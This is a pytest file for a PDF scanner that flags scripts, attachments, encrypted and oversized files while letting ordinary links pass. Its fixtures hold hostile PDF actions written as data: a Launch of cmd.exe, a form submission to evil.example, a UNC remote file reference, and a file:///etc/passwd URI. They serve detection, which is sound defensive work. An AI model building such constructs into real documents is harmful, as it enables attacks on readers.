"""What a PDF holds beside paper is seen, wherever it stands and however it is packed; ordinary paper passes."""

import io

import pytest
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import Fit

from dialogue.rendering import pdfs
from tests import pdf_files

SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"


def page(more):
    return pdf_files.PAGE[:-2] + more + b" >>"


def catalog(more):
    return pdf_files.CATALOG[:-2] + more + b" >>"


def annotation(more):
    return {"page": page(b"/Annots [4 0 R]"), "more": (b"<< /Type /Annot /Rect [0 0 9 9] " + more + b" >>",)}


CASES = {
    "script": {
        "when it opens": {"catalog": catalog(b"/OpenAction " + SCRIPT)},
        "when it opens, named": {"catalog": catalog(b"/OpenAction 4 0 R"), "more": (SCRIPT,)},
        "in its names": {"catalog": catalog(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), "more": (SCRIPT,)},
        "when it is printed": {"catalog": catalog(b"/AA << /WP << /S /Named /N /NextPage >> >>")},
        "when a page opens": {"page": page(b"/AA << /O " + SCRIPT + b" >>")},
        "at an annotation": annotation(b"/Subtype /Link /A " + SCRIPT),
        "after another action": annotation(b"/Subtype /Link /A << /S /GoTo /D [3 0 R] /Next [" + SCRIPT + b"] >>"),
        "in a field": {"catalog": catalog(b"/AcroForm << /Fields [4 0 R] >>"),
                       "more": (b"<< /FT /Tx /T (a) /AA << /K " + SCRIPT + b" >> >>",)},
        "in a form of XML": {"catalog": catalog(b"/AcroForm << /XFA 4 0 R >>"), "more": (pdf_files.stream(b"<xdp/>"),)},
        "that starts a program": annotation(b"/Subtype /Link /A << /S /Launch /F (cmd.exe) >>"),
        "that sends a form": annotation(b"/Subtype /Link /A << /S /SubmitForm /F (http://evil.example) >>"),
        "that takes in data": annotation(b"/Subtype /Link /A << /S /ImportData /F (a.fdf) >>"),
        "that opens another file": annotation(b"/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) /D [0] >>"),
        "that opens a file inside": annotation(b"/Subtype /Link /A << /S /GoToE /D [0] >>"),
        "in an address": annotation(b"/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>"),
        "in the address of a file": annotation(b"/Subtype /Link /A << /S /URI /URI (file:///etc/passwd) >>"),
        "under a name that is escaped": {"catalog": catalog(b"/OpenAction << /S /J#61vaScript /J#53 (1) >>")},
        "that nothing leads to": {"more": (SCRIPT,)},
        "deep inside": {"more": (b"[" * 50 + SCRIPT + b"]" * 50,)},
    },
    "files": {
        "in its names": {"catalog": catalog(b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"),
                         "more": (b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
                                  pdf_files.stream(b"MZ", b"/Type /EmbeddedFile"))},
        "at a pin": annotation(b"/Subtype /FileAttachment /FS << /Type /Filespec /F (a) >>"),
        "a film": annotation(b"/Subtype /RichMedia"),
        "a model": annotation(b"/Subtype /3D"),
        "a screen": annotation(b"/Subtype /Screen"),
        "a sound": annotation(b"/Subtype /Sound"),
        "a portfolio": {"catalog": catalog(b"/Collection << /View /T >>")},
        "beside a page": {"page": page(b"/AF [4 0 R]"), "more": (b"<< /Type /Filespec /F (a) >>",)},
    },
}  # fmt: skip
KINDS = [pytest.param(word, case, id=f"{word} {name}") for word, cases in CASES.items() for name, case in cases.items()]


def made(case, how):
    given = dict(case)
    return how(*given.pop("more", ()), **given)


@pytest.mark.parametrize(("word", "case"), KINDS)
@pytest.mark.parametrize("how", [pdf_files.pdf, pdf_files.packed])
def test_what_is_no_paper_is_seen(word, case, how):
    assert pdfs.verdict(made(case, how)) == word


def test_a_script_that_a_later_version_of_the_file_took_out_is_seen_still():
    first = pdf_files.pdf(SCRIPT)
    begin = len(first)
    later = first + b"4 0 obj\n<< >>\nendobj\n"
    table = len(later)
    later += b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        begin, first.rindex(b"xref\n0"), table,
    )  # fmt: skip

    assert pdfs.verdict(later) == "script"


@pytest.mark.parametrize("script", [SCRIPT, b"<< /S /#4aavaScript >>"])
def test_what_no_table_names_is_seen_too(script):
    assert pdfs.verdict(pdf_files.pdf() + b"9 0 obj\n" + script + b"\nendobj\n") == "script"


def written(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_what_pypdf_writes_as_scripts_and_attachments_is_seen():
    script, file = PdfWriter(), PdfWriter()
    for writer in (script, file):
        writer.add_blank_page(100, 100)
    script.add_open_action(JavaScript("app.alert('a')"))
    file.add_attachment("a.txt", b"words")

    assert [pdfs.verdict(written(writer)) for writer in (script, file)] == ["script", "files"]


def test_a_locked_file_is_seen():
    assert pdfs.verdict(pdf_files.locked()) == "locked"


def test_a_file_in_which_one_goes_from_page_to_page_and_to_the_net_passes():
    writer = PdfWriter()
    for _ in range(3):
        writer.add_blank_page(100, 100)
    writer.add_outline_item(title="First", page_number=0)
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), target_page_index=1, fit=Fit.fit()))
    writer.add_annotation(0, Link(rect=(0, 0, 9, 9), url="https://www.nato.example/page?a=b"))

    assert pdfs.verdict(written(writer)) == pdfs.HARMLESS


def test_binary_data_that_looks_like_a_script_passes():
    assert pdfs.verdict(pdf_files.pdf(pdf_files.stream(b"/JS /JavaScript /Launch", packed=False))) == pdfs.HARMLESS


@pytest.mark.parametrize("many", [pdfs.OBJECTS, pdfs.PAGES])
def test_what_is_larger_than_any_paper_is_seen(many):
    kids = b"4 0 R " * (many + 1)
    file = pdf_files.pdf(pdf_files.PAGE, pages=b"<< /Type /Pages /Kids [3 0 R %s] /Count %d >>" % (kids, many + 2))
    objects = pdf_files.pdf(*[b"null"] * many)

    assert pdfs.verdict(file if many == pdfs.PAGES else objects) == "large"
